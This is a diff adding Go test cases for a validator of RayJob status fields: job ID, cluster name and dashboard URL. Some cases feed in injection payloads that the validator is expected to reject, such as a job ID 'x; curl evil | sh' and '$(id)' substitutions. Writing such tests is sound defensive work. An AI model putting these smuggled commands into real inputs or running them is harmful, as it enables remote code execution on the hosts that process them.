@@ -1,6 +1,7 @@
 package validation
 
 import (
+	"strings"
 	"testing"
 
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
@@ -173,6 +174,40 @@ func TestStoredRayJob(t *testing.T) {
 			want: field.ErrorList{field.Forbidden(p("spec.suspend"), "")},
 		},
 		"being deleted": {job: job(func(j *rayv1.RayJob) { j.Spec.Suspend, j.DeletionTimestamp = true, &metav1.Time{} })},
+		// The status another operator (KubeRay before a switch) or a status writer left.
+		"names as KubeRay records them": {
+			job: job(func(j *rayv1.RayJob) {
+				j.Status.JobId, j.Status.RayClusterName = "train-bpj65", "train-fw52f"
+				j.Status.DashboardURL = "train-fw52f-head-svc.team-a.svc.cluster.local:8265"
+			}),
+		},
+		"a dashboard address with a scheme and an IP": {
+			job: job(func(j *rayv1.RayJob) { j.Status.DashboardURL = "http://10.0.0.1:8265" }),
+		},
+		"a recorded submission id the shell would split": {
+			job:  job(func(j *rayv1.RayJob) { j.Status.JobId = "x; curl evil | sh" }),
+			want: field.ErrorList{field.Invalid(p("status.jobId"), nil, "")},
+		},
+		"a recorded submission id over its length": {
+			job:  job(func(j *rayv1.RayJob) { j.Status.JobId = strings.Repeat("a", MaxJobIDLength+1) }),
+			want: field.ErrorList{field.Invalid(p("status.jobId"), nil, "")},
+		},
+		"a recorded cluster name that is no name": {
+			job:  job(func(j *rayv1.RayJob) { j.Status.RayClusterName = "Train $(id)" }),
+			want: field.ErrorList{field.Invalid(p("status.rayClusterName"), nil, "")},
+		},
+		"recorded dashboard addresses that are not host:port": {
+			job:  job(func(j *rayv1.RayJob) { j.Status.DashboardURL = "svc:8265/$(id)" }),
+			want: field.ErrorList{field.Invalid(p("status.dashboardURL"), nil, "")},
+		},
+		"a recorded dashboard address without a port": {
+			job:  job(func(j *rayv1.RayJob) { j.Status.DashboardURL = "train-head-svc.ns.svc" }),
+			want: field.ErrorList{field.Invalid(p("status.dashboardURL"), nil, "")},
+		},
+		"a recorded dashboard address with another scheme": {
+			job:  job(func(j *rayv1.RayJob) { j.Status.DashboardURL = "file://x:1" }),
+			want: field.ErrorList{field.Invalid(p("status.dashboardURL"), nil, "")},
+		},
 	}
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
